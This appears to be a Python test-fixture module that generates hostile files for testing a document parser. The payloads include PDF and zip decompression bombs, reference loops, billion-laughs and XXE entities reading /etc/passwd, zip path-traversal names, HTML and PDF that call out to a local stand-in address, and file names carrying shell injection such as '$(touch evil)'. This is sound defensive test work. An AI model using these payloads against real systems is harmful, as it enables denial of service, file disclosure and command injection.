# ruff: noqa: E501 - sources of attacks read better whole
"""Files that attack what reads them, each built when it is asked for; ADDRESS is where none of them may connect to."""

from __future__ import annotations

import io
import tempfile
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

SENTENCE = "兩校簽署合作備忘錄，推動半導體人才交流。"
ADDRESS = "http://127.0.0.1:48123"
WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
FONT = b"<</Font<</F1<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>"
BOX = b"/MediaBox[0 0 600 800]"
PAGE = b"<</Type/Page/Parent 2 0 R" + BOX + b"/Contents 4 0 R/Resources" + FONT + b">>"


def pdf(*objects: bytes, trailer: bytes = b"") -> bytes:
    """A PDF of these objects, the first of which is its catalog, without a table of where they are."""
    body = b"".join(b"%d 0 obj\n%s\nendobj\n" % (number, content) for number, content in enumerate(objects, 1))
    return b"%PDF-1.4\n" + body + b"trailer<</Size %d/Root 1 0 R%s>>\n%%%%EOF" % (len(objects) + 1, trailer)


def stream(content: bytes, entries: bytes = b"") -> bytes:
    return b"<</Length %d%s>>stream\n%s\nendstream" % (len(content), entries, content)


def pdf_bomb(operators: int) -> bytes:
    """A PDF of some kilobytes whose page unpacks, twice, to this many text operators of 37 bytes."""
    packed = zlib.compress(zlib.compress(b"BT /F1 12 Tf 10 10 Td (AAAAAAAA) Tj ET\n" * operators, 9), 9)
    tree = (b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>")
    return pdf(*tree, PAGE, stream(packed, b"/Filter[/FlateDecode/FlateDecode]"))


def pdf_pages(count: int, claimed: int) -> bytes:
    """A PDF whose one page stands `count` times in its tree, which claims another number."""
    kids = b"3 0 R " * count
    text = stream(b"BT /F1 12 Tf 10 10 Td (A) Tj ET")
    return pdf(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, claimed), PAGE, text)


def pdf_forms(levels: int) -> bytes:
    """A PDF whose page draws a form ten times, which draws the next ten times, and so on; the last draws the first."""
    forms = []
    for level in range(levels):
        following = 5 + (level + 1) % levels
        entries = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X %d 0 R>>>>" % following
        forms.append(stream(b"/X Do " * 10, entries))
    page = b"<</Type/Page/Parent 2 0 R" + BOX + b"/Contents 4 0 R/Resources<</XObject<</X 5 0 R>>>>>>"
    tree = (b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>")
    return pdf(*tree, page, stream(b"/X Do"), *forms)


def pdf_calls() -> bytes:
    """A PDF that opens an address, runs a script and names a file elsewhere as its content."""
    action = b"/OpenAction<</S/URI/URI(%s/pdf)>>" % ADDRESS.encode()
    script = b"/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(app.launchURL('%s/js'))>>]>>>>" % ADDRESS.encode()
    outside = b"<</Length 0/F<</FS/URL/F(%s/stream)>>>>stream\n\nendstream" % ADDRESS.encode()
    tree = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
    return pdf(b"<</Type/Catalog/Pages 2 0 R%s%s>>" % (action, script), tree, PAGE, outside)


def word(content: str, **others: str) -> bytes:
    """A .docx file with this content, and other parts: `__` stands for a slash, `_xml` and `_rels` for the endings."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", content)
        for name, part in others.items():
            archive.writestr(name.replace("__", "/").replace("_xml", ".xml").replace("_rels", ".rels"), part)
    return buffer.getvalue()


def word_text(text: str = SENTENCE) -> str:
    return f"<w:document {WORD}><w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>"


def word_paths() -> bytes:
    """A .docx file with names that lead out of any folder, and a template on another machine."""
    relation = f'<Relationships><Relationship Id="a" Type="attachedTemplate" Target="{ADDRESS}/t" TargetMode="External"/></Relationships>'
    buffer = io.BytesIO(word(word_text(), word___rels__settings_xml_rels=relation, word__settings_xml="<a/>"))
    aim = Path(tempfile.gettempdir(), "kg-evil").as_posix()
    with zipfile.ZipFile(buffer, "a") as archive:
        for name in (f"../../../..{aim}", aim, "..\\..\\kg-evil", "word/../../kg-evil", "a\n\x1b[2J"):
            archive.writestr(name, "x")
    return buffer.getvalue()


def word_parts(count: int) -> bytes:
    """A .docx file of very many parts."""
    return word(word_text(), **{f"p{number}": "" for number in range(count)})


def entities(depth: int = 9, opening: str = "lol") -> str:
    """A document type whose last entity stands for ten to the power of `depth` words."""
    lines = [f'<!ENTITY e0 "{opening}">']
    lines += [f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, depth + 1)]
    return f"<!DOCTYPE html [{''.join(lines)}]>"


def outside(tag: str) -> str:
    """A document type with entities that stand for a file of this machine and for an address."""
    return f'<!DOCTYPE {tag} [<!ENTITY f SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "{ADDRESS}/dtd"> %p; <!ENTITY h SYSTEM "{ADDRESS}/entity">]>'


def page(body: str, head: str = "") -> bytes:
    return f"<html><head><title>兩校簽署合作備忘錄</title>{head}</head><body>{body}</body></html>".encode()


def calls() -> bytes:
    """A page that would fetch and send much, were it shown in a browser."""
    tags = [
        f'<{tag} {name}="{ADDRESS}/{tag}">'
        for tag, name in (
            ("img", "src"),
            ("iframe", "src"),
            ("embed", "src"),
            ("object", "data"),
            ("link rel=stylesheet", "href"),
            ("script", "src"),
            ("base", "href"),
        )
    ]
    data = '<script type="application/ld+json">{"@context":"%s/context","@type":"NewsArticle","headline":"題","url":"file:///etc/passwd"}</script>'
    head = f'<meta http-equiv=refresh content="0;url={ADDRESS}/refresh"><link rel=canonical href="javascript:alert(1)">{data % ADDRESS}'
    return page(f"<p>{SENTENCE}</p>{''.join(tags)}<xi:include href='file:///etc/passwd'/>", head)


def mail(parts: str, header: str = "") -> bytes:
    return f"From: a@b\nTo: c@d\nMIME-Version: 1.0\n{header}{parts}".encode()


def multipart(count: int) -> bytes:
    opened = "".join(f"Content-Type: multipart/mixed; boundary=b{n}\n\n--b{n}\n" for n in range(count))
    return mail(opened)


def forwarded(count: int) -> bytes:
    return mail("Content-Type: message/rfc822\n\n" * count + f"Content-Type: text/plain\n\n{SENTENCE}")


LOOP = b"<</Type/Pages/Kids[2 0 R]/Count 9>>"

# Names end as the format does. Those in QUICK take under a second each.
ATTACKS: dict[str, Callable[[], bytes]] = {
    "operators.pdf": lambda: pdf_bomb(10_000_000),
    "tree-loop.pdf": lambda: pdf(b"<</Type/Catalog/Pages 2 0 R>>", LOOP),
    "length-loop.pdf": lambda: pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        PAGE,
        b"<</Length 4 0 R>>stream\nBT ET\nendstream",
    ),
    "xref-loop.pdf": lambda: b"%PDF-1.4\nxref\n0 1\n0000000000 65535 f \ntrailer<</Size 1/Root 1 0 R/Prev 9>>\nstartxref\n9\n%%EOF",
    "deep-arrays.pdf": lambda: pdf(b"<</Type/Catalog/Pages 2 0 R/A " + b"[" * 2_000_000 + b">>"),
    "deep-dicts.pdf": lambda: pdf(b"<</Type/Catalog/Pages 2 0 R/A " + b"<</A " * 500_000 + b">>"),
    "claimed-pages.pdf": lambda: pdf_pages(1, 2_000_000_000),
    "many-pages.pdf": lambda: pdf_pages(200_000, 200_000),
    "forms.pdf": lambda: pdf_forms(12),
    "form-loop.pdf": lambda: pdf_forms(1),
    "calls.pdf": pdf_calls,
    "flate.pdf": lambda: pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        PAGE,
        stream(zlib.compress(b" " * 2_000_000_000, 9), b"/Filter/FlateDecode"),
    ),
    "empty.pdf": lambda: b"%PDF-1.7",
    "unpacks.docx": lambda: word(" " * 500_000_000),
    "entities.docx": lambda: word(entities() + word_text("&e9;")),
    "outside.docx": lambda: word(outside("a") + word_text("&f;&h;")),
    "nested.docx": lambda: word(f"<w:document {WORD}>" + "<w:tbl><w:tr><w:tc>" * 300_000),
    "wide.docx": lambda: word(f"<w:document {WORD}><w:tbl><w:tr>" + "<w:tc><w:p/></w:tc>" * 700_000),
    "parts.docx": lambda: word_parts(60_000),
    "paths.docx": word_paths,
    "inner.docx": lambda: word(word_text(), word__inner="x") + word(" " * 40_000_000),
    "entities.html": lambda: f"{entities()}<html><body><p>{SENTENCE}&e9;</p></body></html>".encode(),
    "outside.xhtml": lambda: f'<?xml version="1.0"?>{outside("html")}<html><body><p>{SENTENCE}&f;&h;</p></body></html>'.encode(),
    "doctype.html": lambda: (f"<!DOCTYPE html {'A' * 5_000_000}><html><body><p>{SENTENCE}</p></body></html>").encode(),
    "calls.html": calls,
    "divs.html": lambda: b"<html>" + b"<div>" * 100_000 + SENTENCE.encode(),
    "close-divs.html": lambda: page("".join(f"<div class=nav><div>{SENTENCE}" for _ in range(900)) * 3),
    "spans.html": lambda: page(f"<span><p>{SENTENCE}" * 30_000),
    "paragraphs.html": lambda: page(f"<p>{SENTENCE}" * 120_000),
    "labels.html": lambda: page("<p>回首頁　發布日期" * 200_000),
    "attributes.html": lambda: b"<html><p " + b" ".join(b"a%d=1" % i for i in range(300_000)) + b">",
    "links.html": lambda: page("<div><a href=x>兩校簽署合作備忘錄</a><b>2026-01-01</b></div>" * 100_000),
    "lists.html": lambda: page("<ul><li>列印<li>" * 900 + SENTENCE),
    "boxes.html": lambda: page("<div><h3><a>兩校簽署合作備忘錄</a></h3><div>" * 900 + SENTENCE),
    "titles.html": lambda: page("<div><h1>兩校簽署合作備忘錄</h1>" * 1_500 + SENTENCE),
    "cells.html": lambda: page("<table><tr>" + f"<td>{SENTENCE}" * 100_000),
    "tables.html": lambda: page("<table><tr><td>" * 1_500 + SENTENCE),
    "rubies.html": lambda: page("<p>" + "<ruby>漢<rt>かん</rt></ruby>" * 100_000 + SENTENCE),
    "line.html": lambda: page(f"<p>{SENTENCE * 200_000}</p>"),
    "json.html": lambda: page(f"<p>{SENTENCE}</p>", f'<script type="application/ld+json">{"[" * 2_000_000}</script>'),
    "meta.html": lambda: page(f"<p>{SENTENCE}</p>", '<meta property="og:title" content="題">' * 200_000),
    "breaks.html": lambda: page(f"<pre>{SENTENCE}{chr(10) * 2_000_000}</pre>"),
    "tags.html": lambda: b"<html><p>" + b"<" * 3_000_000,
    "comment.html": lambda: b"<html><p>" + SENTENCE.encode() + b"<!--" * 1_000_000,
    "parts.eml": lambda: multipart(3_000),
    "siblings.eml": lambda: mail(
        "Content-Type: multipart/mixed; boundary=b\n\n" + "--b\nContent-Type: image/x\n\nx\n" * 100_000 + "--b--\n"
    ),
    "forwarded.eml": lambda: forwarded(3_000),
    "subject.eml": lambda: mail(f"\n{SENTENCE}", "Subject: " + "=?utf-8?b?5YWp5qCh?= " * 300_000 + "\n"),
    "headers.eml": lambda: mail(f"\n{SENTENCE}", "X: y\n" * 500_000),
    "page.eml": lambda: mail("\n" + "<div>" * 100_000, "Content-Type: text/html\n"),
    "quotes.md": lambda: ("> " * 20_000 + SENTENCE).encode(),
    "brackets.md": lambda: ("[" * 50_000 + "](" * 50_000 + SENTENCE).encode(),
    "stars.md": lambda: ("*a **a " * 100_000 + SENTENCE).encode(),
    "table.md": lambda: ("|a" * 3_000 + "|\n" + "|-" * 3_000 + "|\n" + ("|a" * 3_000 + "|\n") * 500).encode(),
    "images.md": lambda: f"![x]({ADDRESS}/md) <img src='{ADDRESS}/md2'>\n\n{SENTENCE}\n".encode(),
    "line.txt": lambda: SENTENCE.encode() * 160_000,
    "brackets.txt": lambda: f"{SENTENCE}\n{'「（(【[' * 2_000}\n{SENTENCE}".encode(),
    "lines.txt": lambda: "校長\n".encode() * 500_000 + SENTENCE.encode(),
}  # fmt: skip
QUICK = (
    "tree-loop.pdf", "length-loop.pdf", "xref-loop.pdf", "claimed-pages.pdf", "form-loop.pdf", "calls.pdf", "empty.pdf",
    "entities.docx", "outside.docx", "paths.docx", "inner.docx", "entities.html", "outside.xhtml", "calls.html",
    "divs.html", "lists.html", "titles.html", "tables.html", "images.md", "brackets.txt", "forwarded.eml",
)  # fmt: skip

# Names that files may have on Linux, each of which some program has taken for something else.
NAMES = (
    "-rf.txt", "a\nb.txt", "\u202etxt.gpj.txt", "\x1b[31mred\x1b[0m.txt", "$(touch evil).txt", "a'\"`;&|.txt", "%2e%2e%2f.txt",
    "..txt", " .txt", "長" * 80 + ".txt", "a\u200bb.txt", "<script>.txt", "a?b#c.txt", "http:example.txt", "a\\..\\b.txt", "\t.txt",
)  # fmt: skip
RAW_NAMES = (b"\xff\xfe\x80.txt", b"big5-\xa5\xc1.txt")  # not UTF-8
